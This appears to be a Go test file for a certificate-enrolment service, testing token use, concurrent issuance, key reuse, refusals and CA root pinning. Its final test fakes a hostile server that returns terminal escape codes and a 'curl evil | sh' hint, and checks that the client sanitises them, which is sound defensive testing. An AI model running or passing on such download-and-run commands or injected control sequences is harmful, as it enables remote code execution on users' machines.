package enrolment_test

import (
	"context"
	"crypto/sha256"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tenantgate/tenantgate/identity"
	"github.com/tenantgate/tenantgate/internal/database/databasetest"
	"github.com/tenantgate/tenantgate/pki"
	"github.com/tenantgate/tenantgate/pki/pkitest"
	"github.com/tenantgate/tenantgate/proxy/enrolment"
	"github.com/tenantgate/tenantgate/proxy/record"
)

// What the database decides is tried on each kind of it.
func TestOnEachDatabase(t *testing.T) {
	databasetest.Each(t, func(t *testing.T, create func(testing.TB) string) {
		for _, c := range []struct {
			name string
			test func(*testing.T, *house)
		}{
			{"enrolling issues, binds and records", testEnrollingIssuesBindsAndRecords},
			{"a token used eight times at once gives one certificate", testATokenUsedEightTimesAtOnce},
			{"the same key gets the same certificate again", testTheSameKeyGetsTheSameCertificateAgain},
			{"renewing overlaps", testRenewingOverlaps},
			{"two renewals at once", testTwoRenewalsAtOnce},
			{"another node renews what this one has issued", testAnotherNodeRenews},
		} {
			t.Run(c.name, func(t *testing.T) { c.test(t, buildOn(t, create(t))) })
		}
	})
}

func testEnrollingIssuesBindsAndRecords(t *testing.T, h *house) {
	token := h.token(func(rules *pki.EnrolmentToken) { rules.Lifetime = 30 * 24 * time.Hour })
	key := h.pki.Key(pki.P256)
	root, err := enrolment.Pin(t.Context(), token.URL, token.Root)
	if err != nil || !root.Equal(h.pki.CA.SigningRoot()) {
		t.Fatalf("pinning: %v", err)
	}
	answer, err := h.client().Enroll(t.Context(), token, h.csr(key))
	if err != nil {
		t.Fatal(err)
	}
	leaf := pair(t, answer, key).Leaf
	if answer.Identity != "erp" || answer.Proxy != "https://proxy.test:8443" || leaf.NotAfter.Sub(leaf.NotBefore) != 30*24*time.Hour+time.Minute {
		t.Errorf("got %+v", answer)
	}
	if roots, err := pki.ParseCertificates([]byte(answer.Roots)); err != nil || len(roots) != 1 || !roots[0].Equal(root) {
		t.Errorf("got the roots %v, %v", roots, err)
	}
	b, ok := h.registry.Snapshot().Binding(sha256.Sum256(leaf.Raw))
	if !ok || b.Identity.Name != "erp" || h.certificates() != 1 {
		t.Errorf("got the binding %+v, %v", b, ok)
	}
	changes, err := record.Changes(t.Context(), h.db, 0, 10)
	if err != nil || len(changes) != 1 {
		t.Fatalf("got %d change records, %v", len(changes), err)
	}
	var detail struct{ Identity, Token, Source, Key_Type, Request_ID string }
	if err := json.Unmarshal(changes[0].Detail, &detail); err != nil {
		t.Fatal(err)
	}
	last := h.last()
	if c := changes[0]; c.Action != "certificate.enroll" || c.Name != answer.Serial || c.Actor != "token:"+detail.Token ||
		detail.Identity != "erp" || detail.Key_Type != "P-256" || detail.Request_ID != last.RequestID || detail.Source != last.Source {
		t.Errorf("got the change record %+v", c)
	}
	if last.Outcome != record.Served || last.Identity != "erp" || last.Serial != answer.Serial || last.Path != "/v1/enroll" {
		t.Errorf("got the record %+v", last)
	}
	for _, where := range []string{fmt.Sprintf("%+v", last), string(changes[0].Detail), fmt.Sprintf("%v %+v %#v %q", token, token, token, token)} {
		if strings.Contains(where, token.Reveal()) || strings.Contains(where, "tge1_") {
			t.Errorf("the token is told: %s", where)
		}
	}
}

// The eight come to two nodes that share the database.
func testATokenUsedEightTimesAtOnce(t *testing.T, h *house) {
	nodes := [2]*enrolment.Client{h.client(), h.node()}
	for round := range 3 {
		token := h.token(nil)
		var issued, used int
		var mu sync.Mutex
		var users sync.WaitGroup
		for i := range 8 {
			csr := h.csr(h.pki.Key(pki.P256))
			users.Go(func() {
				_, err := nodes[i%2].Enroll(t.Context(), token, csr)
				mu.Lock()
				defer mu.Unlock()
				refusal, ok := errors.AsType[*enrolment.Refusal](err)
				switch {
				case err == nil:
					issued++
				case ok && refusal.Code == "used_token":
					used++
				default:
					t.Error(err)
				}
			})
		}
		users.Wait()
		if err := h.registry.Refresh(t.Context()); err != nil {
			t.Fatal(err)
		}
		if issued != 1 || used != 7 || h.certificates() != round+1 {
			t.Errorf("%d issued, %d told that it was used, %d certificates in all; want 1, 7, %d", issued, used, h.certificates(), round+1)
		}
	}
}

func testTheSameKeyGetsTheSameCertificateAgain(t *testing.T, h *house) {
	token, key := h.token(nil), h.pki.Key(pki.P256)
	first, err := h.client().Enroll(t.Context(), token, h.csr(key))
	if err != nil {
		t.Fatal(err)
	}
	second, err := h.client().Enroll(t.Context(), token, h.csr(key)) // another request with the same key
	if err != nil || second.Chain != first.Chain || second.Roots != first.Roots || h.certificates() != 1 {
		t.Fatalf("got %+v, %v, want the same certificate", second, err)
	}
	_, err = h.client().Enroll(t.Context(), token, h.csr(h.pki.Key(pki.P256)))
	h.refused(err, "used_token", record.Denied, 1)

	h.set(func(erp *identity.Identity) { erp.Disabled = true })
	_, err = h.client().Enroll(t.Context(), token, h.csr(key))
	h.refused(err, "disabled", record.Denied, 1)
	h.set(func(erp *identity.Identity) { erp.Disabled = false })

	h.change(func(ctx context.Context, tx *identity.Tx) error {
		_, err := tx.RevokeCertificate(ctx, first.Fingerprint, "superseded", time.Time{})
		return err
	})
	_, err = h.client().Enroll(t.Context(), token, h.csr(key))
	h.refused(err, "spent", record.Denied, 1)
}

// altered is the token with other content, and a sum that fits it.
// A request that is refused has not used the token up.
func TestABadRequestLeavesTheToken(t *testing.T) {
	h := build(t)
	h.set(func(erp *identity.Identity) { erp.KeyTypes = []string{"P-256"} })
	token, key := h.token(nil), h.pki.Key(pki.P256)
	_, err := h.client().Enroll(t.Context(), token, h.csr(h.pki.Key(pki.P384)))
	h.refused(err, "key_type", record.Malformed, 0)
	for name, csr := range hostileRequests(h, key) {
		_, err := h.client().Enroll(t.Context(), token, csr)
		if refusal, ok := errors.AsType[*enrolment.Refusal](err); !ok || refusal.Code != "invalid" {
			t.Errorf("%s: got %v, want a refusal", name, err)
		}
	}
	if _, err := h.client().Enroll(t.Context(), token, h.csr(key)); err != nil || h.certificates() != 1 {
		t.Errorf("after all that: %v, %d certificates", err, h.certificates())
	}
}

func TestTheFirstContactRefusesAnotherCA(t *testing.T) {
	h, other := build(t), build(t)
	if _, err := enrolment.Pin(t.Context(), other.url, h.token(nil).Root); !errors.Is(err, enrolment.ErrOtherCA) {
		t.Errorf("got %v", err)
	}
	// The pinned root is what the next connection must lead to.
	_, err := enrolment.NewClient(other.url, h.pki.CA.Trust().Roots(), nil).Enroll(t.Context(), h.token(nil), h.csr(h.pki.Key(pki.P256)))
	if err == nil || len(other.records) != 1 {
		t.Errorf("a token was sent to a server of another CA: %v", err)
	}
}

// While the CA has two roots, callers get both, and the one that tokens name first.
func TestRootsBeginWithTheOneThatTokensName(t *testing.T) {
	h := build(t)
	own, next := h.pki.CA.SigningRoot(), pkitest.New(t).CA.SigningRoot()
	trust, err := pki.NewTrust([]*x509.Certificate{next, own}, h.pki.CA.Trust().Intermediates())
	if err != nil {
		t.Fatal(err)
	}
	h.server.Trust = func() *pki.Trust { return trust }
	token := h.token(nil)
	if root, err := enrolment.Pin(t.Context(), h.url, token.Root); err != nil || !root.Equal(own) {
		t.Errorf("pinned %v, %v", root, err)
	}
	answer, err := h.client().Enroll(t.Context(), token, h.csr(h.pki.Key(pki.P256)))
	if err != nil {
		t.Fatal(err)
	}
	_, _, served := h.send("GET", "/v1/roots", nil)
	for _, text := range []string{answer.Roots, served} {
		roots, err := pki.ParseCertificates([]byte(text))
		if err != nil || len(roots) != 2 || !roots[0].Equal(own) || !roots[1].Equal(next) {
			t.Errorf("got %d roots, %v", len(roots), err)
		}
	}
}

// Whatever is taken for a token is one, letter by letter: what was altered has another text, and with it another hash.
// Whoever answers a first contact is not believed, and what he says does not drive a terminal.
func TestARefusalIsFitForATerminal(t *testing.T) {
	evil := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/problem+json")
		w.WriteHeader(http.StatusTeapot)
		_ = json.NewEncoder(w).Encode(map[string]string{"detail": "\x1b[2J" + strings.Repeat("x", 10000), "hint": "curl evil\r\n| sh"})
	}))
	defer evil.Close()
	_, err := enrolment.Pin(t.Context(), evil.URL, [32]byte{})
	refused, ok := errors.AsType[*enrolment.Refusal](err)
	if !ok || strings.ContainsAny(refused.Detail+refused.Hint, "\x1b\r\n") || len(refused.Detail) > 600 {
		t.Errorf("got %q", err)
	}
}
